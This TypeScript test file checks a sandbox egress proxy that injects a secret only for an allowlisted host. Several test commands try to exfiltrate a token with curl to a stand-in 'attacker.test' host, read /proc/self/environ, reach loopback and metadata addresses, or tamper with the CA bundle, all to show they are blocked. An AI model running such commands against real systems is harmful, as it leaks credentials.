/*
 * End to end through real programs in a real bubblewrap sandbox with its own network namespace:
 * curl, Node fetch, Python urllib and git reach an "allowed" HTTPS service through the proxy,
 * which receives the real value of an injected secret while the sandbox only ever holds its
 * sentinel; an "attacker" service gets no connection, or only the sentinel.
 */
import { makeTempDir } from '../helpers/tmp';
import { EgressProxy, type EgressDecision, type EgressRun } from '../../src/egress/proxy';
import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/policy/egress-settings';
import type { NetworkDocument, SecretBindingDocument } from '../../src/policy/schema-def';
import { checkEgress } from '../../src/egress/plan';
import { openRunEgress } from '../../src/egress/run';
import { makeGitRepo, makeNames, publicCa, runSandboxed, startService, type TestService } from './helpers';

const VALUE = 'ghp_R3alT0kenValue9xYzQ8wVu7tSr6qPo5nM4';
const REF = 'secret:github-token';

let tmp: ReturnType<typeof makeTempDir>;
let allowed: TestService;
let attacker: TestService;
let proxy: EgressProxy;
const decisions: EgressDecision[] = [];

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-');
  makeGitRepo(tmp.dir);
  allowed = await startService('allowed', { gitRoot: tmp.dir, password: VALUE });
  attacker = await startService('attacker');
  const names = makeNames({ 'allowed.test': allowed, 'attacker.test': attacker });
  proxy = new EgressProxy({ ...names, upstreamCa: [publicCa.certPem], onDecision: (d) => decisions.push(d), runtimeDir: tmp.dir });
});

afterAll(async () => {
  await proxy.close();
  await allowed.close();
  await attacker.close();
  tmp.cleanup();
});

beforeEach(() => {
  decisions.length = 0;
  allowed.seen.length = 0;
  attacker.seen.length = 0;
  allowed.connections = 0;
  attacker.connections = 0;
});

async function openRun(policy: NetworkDocument, bind: SecretBindingDocument[], runId: string): Promise<{ run: EgressRun; sentinel: string | undefined }> {
  const network = normalizeNetworkPolicy(policy);
  const check = checkEgress({ network, bindings: normalizeSecretBindings(bind), refs: [REF], sandboxed: true });
  const { run, sentinels } = await openRunEgress(proxy, { runId, network, check, values: new Map([[REF, VALUE]]) });
  return { run, sentinel: sentinels.get(REF) };
}

// Authorization (the default) and one named query parameter; nothing else.
const bound: SecretBindingDocument[] = [{ ref: REF, hosts: ['allowed.test'], delivery: 'inject', headers: ['Authorization'], query: ['t'] }];

describe('injection through real clients in a sandbox', () => {
  let run: EgressRun;
  let sentinel: string;
  beforeAll(async () => {
    const opened = await openRun({ mode: 'allowlist', allow: ['allowed.test'] }, bound, 'run-clients');
    run = opened.run;
    sentinel = opened.sentinel!;
    expect(sentinel).toHaveLength(VALUE.length);
    expect(sentinel).not.toBe(VALUE);
  });
  afterAll(() => run.close());

  test('curl: the service receives the value, the command sees neither it nor its echo', async () => {
    const result = await runSandboxed(run, 'curl -sS -H "Authorization: Bearer $TOKEN" https://allowed.test/curl; echo; cat /proc/self/environ | tr "\\0" "\\n" | grep ^TOKEN=', { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(allowed.seen.map((s) => s.headers.authorization)).toEqual([`Bearer ${VALUE}`]);
    expect(result.stdout).not.toContain(VALUE);
    expect(result.stdout).toContain('[REDACTED:secret:github-token]');
    expect(result.stdout).toContain(`TOKEN=${sentinel}`);
    expect(decisions.some((d) => d.via === 'https-intercepted' && d.injected?.includes(REF) && d.host === 'allowed.test')).toBe(true);
  });

  test('Node fetch (through the preload): the value in Authorization; the sentinel in the body is refused with its reason', async () => {
    const script = `node -e 'const h = { authorization: "Bearer " + process.env.TOKEN }; fetch("https://allowed.test/node", { headers: h }).then(r => r.text()).then(t => console.log(t)).then(() => fetch("https://allowed.test/store", { method: "POST", body: "token=" + process.env.TOKEN })).then(async r => console.log(r.status, await r.text()))'`;
    const result = await runSandboxed(run, script, { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(allowed.seen.map((s) => [s.url, s.headers.authorization])).toEqual([['/node', `Bearer ${VALUE}`]]);
    expect(result.stdout).not.toContain(VALUE);
    expect(result.stdout).toContain('Bearer [REDACTED:secret:github-token]');
    expect(result.stdout).toContain(`403 execgate egress proxy: refused allowed.test:443 (<<${REF}>> is in the body; its binding puts the value only in the Authorization header, the query parameter \`t\`).`);
  });

  test('Python urllib, with the sentinel in the named query parameter and a gzip-encoded echo', async () => {
    const script = `python3 -c 'import os, urllib.request; import gzip; print(gzip.decompress(urllib.request.urlopen("https://allowed.test/py/gzip?t=" + os.environ["TOKEN"]).read()).decode())'`;
    const result = await runSandboxed(run, script, { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(allowed.seen.map((s) => s.url)).toEqual([`/py/gzip?t=${VALUE}`]);
    expect(result.stdout).not.toContain(VALUE);
    expect(result.stdout).toContain('[REDACTED:secret:github-token]');
  });

  test('git clone over HTTPS with the token in the URL (Basic auth swapped)', async () => {
    const result = await runSandboxed(run, 'cd /tmp && git clone -q "https://x-access-token:$TOKEN@allowed.test/repo.git" c && cat c/README', { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe('egress test repository\n');
    expect(allowed.seen.some((s) => s.headers.authorization === `Basic ${Buffer.from(`x-access-token:${VALUE}`).toString('base64')}`)).toBe(true);
  });

  test('a response in an encoding the proxy cannot read is refused, not passed on', async () => {
    const result = await runSandboxed(run, 'curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $TOKEN" https://allowed.test/weird-encoding', { TOKEN: sentinel });
    expect(result.stdout).toBe('502');
    expect(decisions.some((d) => d.rule === 'response-unreadable')).toBe(true);
  });

  test('a compressed request body is read through its decoder: the sentinel in it is refused, nothing is sent', async () => {
    const script = 'printf "t=%s" "$TOKEN" | gzip | curl -sS -w "\\n%{http_code}" -H "Content-Encoding: gzip" --data-binary @- https://allowed.test/upload';
    const result = await runSandboxed(run, script, { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(result.stdout).toMatch(/is in the body; .*\n\n403$/);
    expect(allowed.seen).toHaveLength(0);
    expect(decisions.at(-1)).toMatchObject({ allowed: false, rule: `sentinel-misplaced:${REF}` });
  });

  test('the sandbox sees the CA certificate and the proxy socket, never the CA key', async () => {
    const result = await runSandboxed(run, 'ls /tmp/.execgate-egress; test -S /tmp/.execgate-egress.sock && echo socket; grep -c "BEGIN CERTIFICATE" "$SSL_CERT_FILE" >/dev/null && echo has-certs; grep -l PRIVATE /tmp/.execgate-egress/* || echo no-keys');
    expect(result.stdout).toBe('ca.pem\nnode-preload.cjs\nsocket\nhas-certs\nno-keys\n');
  });

  test('the shared CA bundle and Node preload cannot be rewritten from inside (read-only bind)', async () => {
    const script = 'for f in ca.pem node-preload.cjs new-file; do (echo x >> /tmp/.execgate-egress/$f) 2>/dev/null && echo "wrote $f"; done; rm /tmp/.execgate-egress.sock 2>/dev/null && echo removed; echo end';
    const result = await runSandboxed(run, script);
    expect(result.stdout).toBe('end\n');
  });

  test('SOCKS5 reaches an allowed host but is never intercepted: the sentinel stays a sentinel', async () => {
    const result = await runSandboxed(run, 'curl -sS -o /dev/null --proxy "$ALL_PROXY" -H "X: $TOKEN" http://allowed.test/socks', { TOKEN: sentinel });
    expect(result.stderr).toBe('');
    expect(allowed.seen.map((s) => s.headers['x'])).toEqual([sentinel]);
    expect(decisions).toEqual([expect.objectContaining({ via: 'socks', host: 'allowed.test', port: 80, allowed: true })]);
  });

  test('the attacker service, not on the allowlist, receives no connection at all', async () => {
    const script = 'curl -sS -H "X: $TOKEN" https://attacker.test/ ; curl -sS --proxy "$ALL_PROXY" http://attacker.test/ ; curl -sS --noproxy "*" https://attacker.test/; echo done';
    const result = await runSandboxed(run, script, { TOKEN: sentinel });
    expect(result.stdout).toContain('done');
    expect(attacker.connections).toBe(0);
    expect(decisions.filter((d) => d.host === 'attacker.test').map((d) => [d.via, d.allowed, d.rule])).toEqual([
      ['connect', false, 'not-allowlisted'],
      ['socks', false, 'not-allowlisted'],
    ]);
  });

  test('names that resolve to loopback or the metadata address are refused', async () => {
    const { run: open, sentinel: s } = await openRun({ mode: 'open' }, bound, 'run-rebind');
    try {
      const script = 'for h in rebind.test metadata.test mapped.test; do curl -sS -o /dev/null -w "%{http_code} " http://$h/; curl -sS https://$h/ 2>/dev/null; done; echo';
      const result = await runSandboxed(open, script, { TOKEN: s! });
      expect(result.stdout.trim()).toBe('403 403 403');
      expect(decisions.map((d) => d.rule).sort()).toEqual([
        'address:loopback', 'address:loopback', 'address:loopback', 'address:loopback', 'address:metadata', 'address:metadata',
      ]);
    } finally {
      await open.close();
    }
  });
});

describe('allowed but not bound', () => {
  test('another host gets at most the sentinel through a tunnel the proxy does not read; where it reads (plain HTTP), the request is refused', async () => {
    const { run, sentinel } = await openRun({ mode: 'allowlist', allow: ['allowed.test', 'attacker.test'] }, bound, 'run-unbound');
    try {
      // The attacker's certificate chains to the test's stand-in public CA, which curl is told to trust.
      const script = 'printf %s "$PUBLIC_CA" > /tmp/public.pem; curl -sS -o /dev/null --cacert /tmp/public.pem -H "X: $TOKEN" https://attacker.test/tls; curl -sS -H "X: $TOKEN" http://attacker.test/plain';
      const result = await runSandboxed(run, script, { TOKEN: sentinel!, PUBLIC_CA: publicCa.certPem });
      expect(result.stderr).toBe('');
      expect(result.stdout).toBe(`execgate egress proxy: refused attacker.test:80 (<<${REF}>> is bound to allowed.test, not attacker.test:80).\n`);
      expect(attacker.seen.map((s) => [s.url, s.headers['x']])).toEqual([['/tls', sentinel]]);
      expect(JSON.stringify(attacker.seen)).not.toContain(VALUE);
      expect(decisions.find((d) => d.via === 'http')).toMatchObject({ allowed: false, rule: `sentinel-unbound:${REF}` });
    } finally {
      await run.close();
    }
  });
});

describe('network none', () => {
  test('nothing leaves: not through the proxy, not directly, not to host loopback', async () => {
    const { run } = await openRun({ mode: 'none' }, [], 'run-none');
    try {
      const script = [
        'curl -sS -o /dev/null -w "%{http_code}\\n" http://allowed.test/',
        'curl -sS https://allowed.test/ 2>/dev/null || echo tls-refused',
        `curl -sS --noproxy "*" http://127.0.0.1:${allowed.httpPort}/ 2>/dev/null || echo direct-refused`,
        "awk 'NR > 2 { print $1 }' /proc/net/dev",
      ].join('; ');
      const result = await runSandboxed(run, script);
      expect(result.stdout).toBe('403\ntls-refused\ndirect-refused\nlo:\n');
      expect(allowed.connections).toBe(0);
      expect(decisions.every((d) => !d.allowed && d.rule === 'mode:none')).toBe(true);
      expect(decisions).toHaveLength(2);
    } finally {
      await run.close();
    }
  });
});
